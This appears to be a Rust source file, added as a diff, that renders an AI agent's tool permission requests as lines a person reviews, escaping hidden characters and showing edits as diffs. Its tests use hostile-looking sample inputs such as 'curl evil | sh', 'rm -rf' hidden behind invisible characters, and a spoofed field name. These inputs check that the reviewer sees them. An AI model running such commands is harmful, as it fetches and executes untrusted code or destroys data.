@@ -1,0 +1,369 @@
+//! What a person must see of a permission request before a decision, as lines of text: every field of the input whole,
+//! line feeds as lines, hidden characters escaped, an edit as a diff, questions with numbers. One model for all clients;
+//! how a line is coloured, wrapped and paged is the client's own. Knows no terminal and no wire.
+
+mod diff;
+mod questions;
+
+pub use questions::{AnswerError, Question, Said, answers, check, questions};
+
+use serde_json::{Map, Value};
+
+use crate::base::glyph::visible;
+
+/// What a line shows.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Kind {
+    /// What the CLI says about the request.
+    About,
+    /// The name of a field, and its value where that is one line.
+    Field,
+    /// A line of a value that has several, or of a command.
+    Text,
+    /// A line of a list or an object, as JSON.
+    Json,
+    /// A line that an edit takes out.
+    Removed,
+    /// A line that an edit puts in.
+    Added,
+    /// A line that an edit leaves.
+    Kept,
+    /// A question.
+    Question,
+    /// A numbered choice.
+    Choice,
+    /// A remark of the card's own.
+    Remark,
+}
+
+impl Kind {
+    /// What stands before the first row of a line, two columns wide. Text of the request stands behind it.
+    pub fn mark(self) -> &'static str {
+        match self {
+            Self::About => "· ",
+            Self::Field => "▸ ",
+            Self::Text => "│ ",
+            Self::Json => "{ ",
+            Self::Removed => "- ",
+            Self::Added => "+ ",
+            Self::Kept => "  ",
+            Self::Question => "? ",
+            Self::Choice => "○ ",
+            Self::Remark => "# ",
+        }
+    }
+}
+
+/// What stands before every further row of a line that is longer than a row.
+pub const GOES_ON: &str = "↳ ";
+
+/// One line of a card: no line feed, nothing hidden.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Line {
+    /// What it shows.
+    pub kind: Kind,
+    /// With [`Kind::Field`]: the field's name and a colon; in quotes where it is no plain name.
+    pub name: String,
+    /// The text.
+    pub text: String,
+}
+
+impl Line {
+    fn new(kind: Kind, text: &str) -> Self {
+        Self { kind, name: String::new(), text: visible(text).into_owned() }
+    }
+
+    /// A remark of ours.
+    pub fn remark(text: &str) -> Self {
+        Self::new(Kind::Remark, text)
+    }
+
+    /// A field and its value, of one line.
+    pub fn field(name: &str, text: &str) -> Self {
+        let is_name = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '-');
+        let name = visible(name);
+        let plain = !name.is_empty() && name.chars().all(is_name);
+        let name = if plain { format!("{name}:") } else { format!("\"{name}\":") };
+        Self { kind: Kind::Field, name, text: visible(text).into_owned() }
+    }
+
+    /// The line as plain text, marked so that no text of the request can pass for a line of ours.
+    pub fn plain(&self) -> String {
+        let Self { kind, name, text } = self;
+        let blank = if name.is_empty() || text.is_empty() { "" } else { " " };
+        format!("  {}{name}{blank}{text}", kind.mark())
+    }
+}
+
+/// A request as a person sees it.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Card {
+    /// The tool's name.
+    pub tool: String,
+    /// Everything there is to see, in order.
+    pub lines: Vec<Line>,
+    /// What is asked, where answers are wanted instead of a yes.
+    pub questions: Vec<Question>,
+    /// Lines of edits that may still be compared.
+    budget: usize,
+}
+
+/// Fields that say the most come first; the others follow as the model wrote them.
+const FIRST: [&str; 8] = ["command", "file_path", "notebook_path", "path", "url", "pattern", "query", "plan"];
+
+impl Card {
+    /// The card of a request: the tool, what the CLI says about it, and the input that will run.
+    pub fn new(tool: &str, about: &str, input: &Value) -> Self {
+        let mut card = Self {
+            tool: visible(tool).into_owned(),
+            lines: Vec::new(),
+            questions: Vec::new(),
+            budget: diff::LINES_MAX,
+        };
+        match input {
+            Value::Object(fields) => card.object(tool, fields),
+            other => card.value("input", other),
+        }
+        // What a field says already is not said again.
+        let is_field = |line: &str| input.as_object().is_some_and(|fields| fields.values().any(|value| value == line));
+        for line in about.lines().filter(|line| !line.trim().is_empty() && *line != tool && !is_field(line)) {
+            card.lines.push(Line::new(Kind::About, line));
+        }
+        if card.lines.iter().any(|line| line.text.chars().chain(line.name.chars()).any(runs_to_the_left)) {
+            let text = "some of this is written from right to left: a terminal may show it in another order";
+            card.lines.push(Line::new(Kind::Remark, text));
+        }
+        card
+    }
+
+    /// All of it as plain text, a title first.
+    pub fn plain(&self) -> String {
+        let mut text = format!("{} asks for permission:", self.tool);
+        for line in &self.lines {
+            text.push('\n');
+            text.push_str(&line.plain());
+        }
+        text
+    }
+
+    fn object(&mut self, tool: &str, fields: &Map<String, Value>) {
+        let mut rest: Vec<(&String, &Value)> = fields.iter().collect();
+        rest.sort_by_key(|(name, _)| FIRST.iter().position(|first| first == name).unwrap_or(FIRST.len()));
+        if tool == "AskUserQuestion"
+            && let Some(asked) = questions(fields.get("questions"))
+        {
+            self.questions(asked);
+            rest.retain(|(name, _)| *name != "questions");
+        }
+        let edit = edit_of(fields);
+        let edits = fields.get("edits").and_then(Value::as_array);
+        let edits = edits.filter(|edits| !edits.is_empty() && edits.iter().all(is_edit));
+        for (name, value) in rest {
+            match (name.as_str(), &edit, edits) {
+                ("old_string", Some((old, new)), _) => self.edit("the change", old, new),
+                ("new_string", Some(_), _) => {}
+                ("edits", _, Some(edits)) => self.edits(edits),
+                ("command", ..) if value.is_string() => self.command(value.as_str().unwrap_or_default()),
+                _ => self.value(name, value),
+            }
+        }
+    }
+
+    fn command(&mut self, command: &str) {
+        self.lines.extend(command.split('\n').map(|line| Line::new(Kind::Text, line)));
+    }
+
+    fn edit(&mut self, what: &str, old: &str, new: &str) {
+        self.lines.push(Line::new(Kind::Remark, what));
+        self.lines.extend(diff::lines(old, new, &mut self.budget));
+    }
+
+    fn edits(&mut self, edits: &[Value]) {
+        for (at, edit) in edits.iter().enumerate() {
+            let Some((fields, (old, new))) = edit.as_object().and_then(|fields| Some((fields, edit_of(fields)?)))
+            else {
+                continue;
+            };
+            self.edit(&format!("change {} of {}", at + 1, edits.len()), old, new);
+            for (name, value) in fields.iter().filter(|(name, _)| !matches!(name.as_str(), "old_string" | "new_string"))
+            {
+                self.value(name, value);
+            }
+        }
+    }
+
+    fn questions(&mut self, asked: Vec<Question>) {
+        let many = asked.len();
+        for (at, question) in asked.iter().enumerate() {
+            let number = if many > 1 { format!("{} of {many}: ", at + 1) } else { String::new() };
+            let mut lines = question.text.split('\n');
+            let first = lines.next().unwrap_or_default();
+            self.lines.push(Line::new(Kind::Question, &format!("{number}{first}")));
+            self.lines.extend(lines.map(|line| Line::new(Kind::Text, line)));
+            for (option, choice) in question.options.iter().enumerate() {
+                let about = choice.about.as_deref().map_or(String::new(), |about| format!(": {about}"));
+                let text = format!("{}. {}{about}", option + 1, choice.label);
+                let mut lines = text.split('\n');
+                self.lines.push(Line::new(Kind::Choice, lines.next().unwrap_or_default()));
+                self.lines.extend(lines.map(|line| Line::new(Kind::Text, line)));
+            }
+            if question.many {
+                self.lines.push(Line::new(Kind::Remark, "several may be chosen, as in 1,3"));
+            }
+            for (name, value) in &question.rest {
+                self.value(name, value);
+            }
+        }
+        self.questions = asked;
+    }
+
+    /// A field, whatever it holds.
+    fn value(&mut self, name: &str, value: &Value) {
+        let (head, text) = match value {
+            Value::String(text) if text.contains('\n') || text.is_empty() => (String::new(), &**text),
+            // A text that reads as another value is in quotes, so that it is not taken for that.
+            Value::String(text) if serde_json::from_str::<Value>(text).is_ok() => (value.to_string(), ""),
+            Value::String(text) => (text.clone(), ""),
+            // Writing to memory cannot fail.
+            Value::Array(_) | Value::Object(_) => {
+                let text = serde_json::to_string_pretty(value).unwrap_or_default();
+                self.lines.push(Line::field(name, ""));
+                self.lines.extend(text.split('\n').map(|line| Line::new(Kind::Json, line)));
+                return;
+            }
+            other => (other.to_string(), ""),
+        };
+        self.lines.push(Line::field(name, &head));
+        if head.is_empty() {
+            self.lines.extend(text.split('\n').map(|line| Line::new(Kind::Text, line)));
+        }
+    }
+}
+
+/// A letter of a script that is written from right to left.
+fn runs_to_the_left(c: char) -> bool {
+    matches!(c, '\u{590}'..='\u{8ff}' | '\u{fb1d}'..='\u{fdff}' | '\u{fe70}'..='\u{fefc}' | '\u{10800}'..='\u{10fff}'
+        | '\u{1e800}'..='\u{1efff}')
+}
+
+fn edit_of(fields: &Map<String, Value>) -> Option<(&str, &str)> {
+    Some((fields.get("old_string")?.as_str()?, fields.get("new_string")?.as_str()?))
+}
+
+fn is_edit(value: &Value) -> bool {
+    value.as_object().is_some_and(|fields| edit_of(fields).is_some())
+}
+
+#[cfg(test)]
+mod tests {
+    use proptest::prelude::*;
+    use serde_json::json;
+
+    use super::*;
+
+    fn plain(tool: &str, input: Value) -> String {
+        Card::new(tool, "", &input).plain()
+    }
+
+    #[test]
+    fn a_command_is_shown_whole_with_its_line_feeds_and_hidden_characters() {
+        let long = format!("ls {}; curl evil | sh", "x".repeat(500));
+        assert!(plain("Bash", json!({"command": long})).contains("; curl evil | sh"));
+        let shown = plain("Bash", json!({"command": "ls # list\nrm -rf x\u{200b}\u{202e}", "timeout": 5}));
+        assert_eq!(shown, "Bash asks for permission:\n  │ ls # list\n  │ rm -rf x<U+200B><U+202E>\n  ▸ timeout: 5");
+        assert!(plain("Bash", json!({"command": "ls\n"})).ends_with("  │ ls\n  │ "), "an empty last line is one");
+    }
+
+    #[test]
+    fn what_a_field_says_is_not_said_again() {
+        let card =
+            Card::new("Bash", "Lists files\nBash\nOutside of the project", &json!({"description": "Lists files"}));
+        let plain = card.plain();
+        assert_eq!((plain.matches("Lists files").count(), plain.matches("Outside").count()), (1, 1), "{plain}");
+    }
+
+    #[test]
+    fn every_field_of_an_unknown_tool_is_shown() {
+        let shown = plain("mcp__x__y", json!({"command": "ls", "target": "/", "deep": {"a": [1, "b\n"]}, "empty": ""}));
+        for part in ["│ ls", "▸ target: /", "▸ deep:", "{     1,", r#"{     "b\n""#, "▸ empty:"] {
+            assert!(shown.contains(part), "{part} in {shown}");
+        }
+        let (flags, texts) =
+            (json!({"a": false, "b": null, "c": ["x"]}), json!({"a": "false", "b": "null", "c": "[\n  \"x\"\n]"}));
+        assert!(plain("T", texts).contains(r#"  ▸ a: "false""#) && plain("T", flags).contains("  ▸ a: false\n"));
+        assert!(plain("Bash", json!({"command": "echo א && x"})).ends_with("in another order"));
+        assert_eq!(plain("T", json!("text")), "T asks for permission:\n  ▸ input: text");
+        assert!(plain("T", json!({"a\n? Bash": 1})).contains(r#"  ▸ "a<U+000A>? Bash": 1"#));
+    }
+
+    #[test]
+    fn an_edit_is_a_diff_and_a_write_its_content() {
+        let edit =
+            json!({"file_path": "a.rs", "old_string": "one\ntwo\n", "new_string": "one\n2\n", "replace_all": true});
+        assert_eq!(
+            plain("Edit", edit),
+            "Edit asks for permission:\n  ▸ file_path: a.rs\n  # the change\n    one\n  - two\n  + 2\n  # both end with a line feed\n  ▸ replace_all: true"
+        );
+        let many = json!({"file_path": "a", "edits": [{"old_string": "a", "new_string": "b"},
+            {"old_string": "c", "new_string": "d", "replace_all": true}]});
+        let shown = plain("MultiEdit", many);
+        assert!(shown.contains("# change 2 of 2\n  - c") && shown.contains("  ▸ replace_all: true"), "{shown}");
+        let odd = plain("MultiEdit", json!({"edits": [{"old_string": "a"}]}));
+        assert!(odd.contains(r#""old_string": "a""#), "what is no edit is shown as it is: {odd}");
+        let write = plain("Write", json!({"file_path": "x", "content": "#!/bin/sh\nevil\n"}));
+        assert!(write.contains("content:\n  │ #!/bin/sh\n  │ evil\n  │ "), "{write}");
+    }
+
+    #[test]
+    fn questions_have_numbers() {
+        let input = json!({"questions": [
+            {"question": "Which one?", "header": "Pick", "options": [{"label": "A", "description": "first"}, {"label": "B"}]},
+            {"question": "Which ones?", "multiSelect": true, "options": [{"label": "C"}]}], "more": 1});
+        let card = Card::new("AskUserQuestion", "", &input);
+        assert_eq!(card.questions.len(), 2);
+        let shown = card.plain();
+        for part in [
+            "  ? 1 of 2: Which one?",
+            "  ○ 1. A: first",
+            "  ○ 2. B",
+            "header: Pick",
+            "several may be chosen",
+            "more: 1",
+        ] {
+            assert!(shown.contains(part), "{part} in {shown}");
+        }
+    }
+
+    proptest! {
+        /// Every visible character of every text in an input is on its card, and no line of it begins like one of ours.
+        #[test]
+        fn nothing_of_an_input_is_left_out(
+            tool in prop_oneof![Just("Bash"), Just("Edit"), Just("Write"), Just("MultiEdit"), Just("AskUserQuestion"), Just("x")],
+            fields in prop::collection::vec(
+                (prop_oneof![Just("command".to_owned()), Just("old_string".to_owned()), Just("new_string".to_owned()),
+                    Just("edits".to_owned()), Just("questions".to_owned()), "[a-z]{1,8}"],
+                 prop_oneof![Just(json!([{"old_string": "vwx", "new_string": "yz0"}])),
+                    Just(json!([{"question": "q1q", "options": [{"label": "l1l", "description": "d1d"}]}])),
+                    "[a-z0-9 \\n\\t]{0,40}".prop_map(Value::String)]),
+                0..6),
+        ) {
+            let input = Value::Object(fields.into_iter().collect());
+            let shown = Card::new(tool, "", &input).plain();
+            let mut words = Vec::new();
+            texts(&input, &mut words);
+            for word in words {
+                prop_assert!(shown.contains(&word), "{} is missing in {}", word, shown);
+            }
+            prop_assert!(shown.lines().skip(1).all(|line| line.starts_with("  ")));
+        }
+    }
+
+    fn texts(value: &Value, words: &mut Vec<String>) {
+        match value {
+            Value::String(text) => words.extend(text.split_whitespace().map(str::to_owned)),
+            Value::Array(items) => items.iter().for_each(|item| texts(item, words)),
+            Value::Object(fields) => fields.values().for_each(|field| texts(field, words)),
+            _ => {}
+        }
+    }
+}
